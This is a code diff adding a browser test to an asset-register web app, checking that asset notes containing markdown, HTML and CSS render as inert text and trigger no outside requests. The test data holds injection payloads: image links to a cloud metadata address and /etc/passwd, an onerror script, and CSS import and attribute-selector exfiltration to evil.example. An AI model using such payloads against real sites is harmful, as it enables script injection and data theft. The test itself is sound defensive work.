@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { updateAsset } from '@custodia/core';
 import { type WebServer, expectAccessible, signIn, startWebServer } from '../../../test/support/web.js';
 
 /** Registering from the generated form, and bulk changes checked item by item before they apply. */
@@ -107,6 +108,30 @@ describe('register actions in a real browser', () => {
     await rows.first().waitFor();
     const expected = Number((await server.db.db.selectFrom('assets').select((eb) => eb.fn.countAll().as('n')).where('assigned_person_id', '=', holder.id).executeTakeFirstOrThrow()).n);
     await expect.poll(() => rows.count()).toBe(Math.min(expected, 50));
+    await page.close();
+  });
+
+  it('IN-03: notes holding markdown, HTML and CSS are shown as the text they are; the page fetches nothing they name', async () => {
+    const asset = await server.db.db.selectFrom('assets').select(['id', 'version']).orderBy('tag').limit(1).executeTakeFirstOrThrow();
+    const notes = [
+      '![x](http://169.254.169.254/latest/meta-data/)',
+      '![y](file:///etc/passwd)',
+      '<img src="http://evil.example/x.png" onerror="window.pwned = 1">',
+      '<style>@import url(//evil.example/a.css); input[value^=a]{background:url(//evil.example/a)}</style>',
+    ].join('\n');
+    await updateAsset(server.ctx, asset.id, Number(asset.version), { notes });
+    const page = await signIn(server);
+    const elsewhere: string[] = [];
+    page.on('request', (request) => { if (!request.url().startsWith(server.base)) elsewhere.push(request.url()); });
+    await page.goto(`${server.base}/assets/${asset.id}`);
+    // Shown in the asset's summary (and in its history, as the change).
+    const shown = page.getByText('![x](http://169.254.169.254/latest/meta-data/)', { exact: false });
+    await shown.first().waitFor();
+    expect(await shown.evaluateAll((elements) => elements.map((e) => (e as HTMLElement).innerText))).toContain(notes);
+    expect(await page.locator('img[src*="evil"], img[src*="169.254"], img[src^="file:"]').count()).toBe(0);
+    expect(await page.evaluate(() => [...document.querySelectorAll('style, link')].some((e) => (e.textContent ?? '').includes('evil.example') || (e.getAttribute('href') ?? '').includes('evil.example')))).toBe(false);
+    expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined();
+    expect(elsewhere, 'requests to other hosts').toEqual([]);
     await page.close();
   });
 
